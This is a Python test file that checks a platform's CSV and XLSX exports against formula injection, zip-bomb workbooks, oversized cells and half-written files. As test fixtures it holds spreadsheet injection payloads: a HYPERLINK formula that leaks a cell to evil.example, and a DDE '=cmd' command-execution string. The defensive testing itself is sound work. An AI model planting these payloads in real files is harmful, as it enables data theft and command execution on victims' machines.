"""Every file the platform writes is safe to open: text that looks like a formula stays text (CSV and XLSX)."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from api.worklogs import csv_file
from cases.report import to_xlsx
from db.cells import FORMULA_START, csv_value, xlsx_row
from registers.tabular import FileProblem, read_table, write_table
from tests.words import english
from web.templating import labels

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "李四",
]


@pytest.mark.parametrize("text", EVIL)
def test_a_csv_cell_never_starts_a_formula(text: str) -> None:
    written = csv_value(text)
    assert not written.startswith(FORMULA_START)
    assert written == text if not text.startswith(FORMULA_START) else written == "'" + text
    assert csv_value(-2) == -2 and csv_value(None) is None  # numbers are numbers


def _cells(content: bytes) -> list[tuple[str, object]]:
    book = load_workbook(io.BytesIO(content))
    return [(cell.data_type, cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_an_xlsx_text_is_a_string_cell_that_reads_as_typed() -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(xlsx_row(sheet, [*EVIL, "李\x1b[31m四", 3, None]))
    out = io.BytesIO()
    book.save(out)
    cells = _cells(out.getvalue())
    assert "f" not in {kind for kind, _ in cells}
    typed = [text.replace("\r", "\n") for text in EVIL]  # XML reads a carriage return as a line end
    assert [value for _, value in cells][:8] == [*typed, "李[31m四"]  # the ESC an XLSX cannot hold is left out
    assert cells[8] == ("n", 3)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_register_export_holds_no_formula(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"people{suffix}"
    write_table(path, ["name", "note"], [[text, "x"] for text in EVIL])
    if suffix == ".xlsx":
        assert "f" not in {kind for kind, _ in _cells(path.read_bytes())}
        return
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)


def test_a_work_log_or_close_out_csv_holds_no_formula() -> None:
    answer = csv_file("worklog-gw-1-2026-12-06", ["at", "what", "detail"], [["09:00", "note", text] for text in EVIL])
    rows = list(csv.reader(io.StringIO(bytes(answer.body).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["at", "what", "detail"] and len(rows) == len(EVIL) + 1
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)


def test_the_monthly_report_workbook_holds_no_formula() -> None:
    figures = {
        "received": 1, "filed": 1, "due": 1, "closed": 1, "closed_on_time": 1, "closure_rate": 1.0,
        "on_time_closure_rate": 1.0, "rework_rate": None, "extension_rate": None, "overdue": 0, "appeals_upheld": 0,
        "change": {"on_time_closure_rate": None},
    }  # fmt: skip
    report = {
        "name": "=cmd|' /C calc'!A0", "month": "2026-11", "area": "321111", "from": "2026-11-01",
        "to": "2026-11-30", "computed_at": "2026-12-01 09:00", "complete": True, "total": figures,
        "appeals_upheld": [
            {"id": "x", "number": "321111-20261101-0001", "appellant": "@gw-1", "decided_by": "-district",
             "decided_at": None},
        ],
        "children": [figures | {"rank": 1, "code": "321111001", "name": EVIL[0], "grade": "+", "colour": None}],
        "units": [figures | {"unit": "=1+1", "sign_in_on_time_rate": 1.0}],
        "gridworkers": [], "overdue_cases": [],
    }  # fmt: skip
    cells = _cells(to_xlsx(report, "Asia/Shanghai", labels("zh")))
    assert "f" not in {kind for kind, _ in cells}
    assert EVIL[0] in {value for _, value in cells}  # written as typed, as text


def test_a_zip_bomb_workbook_is_refused_from_its_directory_alone(tmp_path: Path) -> None:
    # One text of 400 MB packs into well under a megabyte; its size is read from the zip directory, never unpacked.
    path = tmp_path / "bomb.xlsx"
    book = Workbook()
    book.active.append(["name"])  # type: ignore[union-attr]
    book.save(path)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z, z.open("xl/sharedStrings.xml", "w") as f:
        chunk = b"A" * 2**20
        for _ in range(400):
            f.write(chunk)
    assert path.stat().st_size < 2**20
    with pytest.raises(FileProblem) as refused:
        read_table(path)
    assert re.search("unpacks to 400 MB", english(refused.value))


def test_a_csv_cell_over_the_limit_names_its_line(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("name,note\n李四,x\n王五," + "x" * (csv.field_size_limit() + 1) + "\n", encoding="utf-8")
    header, rows = read_table(path)
    with pytest.raises(FileProblem) as refused:
        list(rows)
    assert re.search("line 3", english(refused.value))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_that_fails_halfway_leaves_no_partial_file(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"export{suffix}"
    out.write_bytes(b"the export of yesterday")

    class Unwritable:
        def __str__(self) -> str:
            raise RuntimeError("a value no file can hold")

    with pytest.raises((RuntimeError, ValueError)):
        write_table(out, ["name"], [["甲"], [Unwritable()]])  # type: ignore[list-item]
    assert out.read_bytes() == b"the export of yesterday"  # the old file stands
    assert [p.name for p in tmp_path.iterdir()] == [out.name]  # and nothing half-written beside it
    write_table(out, ["name"], [["甲"]])
    assert [p.name for p in tmp_path.iterdir()] == [out.name] and out.read_bytes() != b"the export of yesterday"
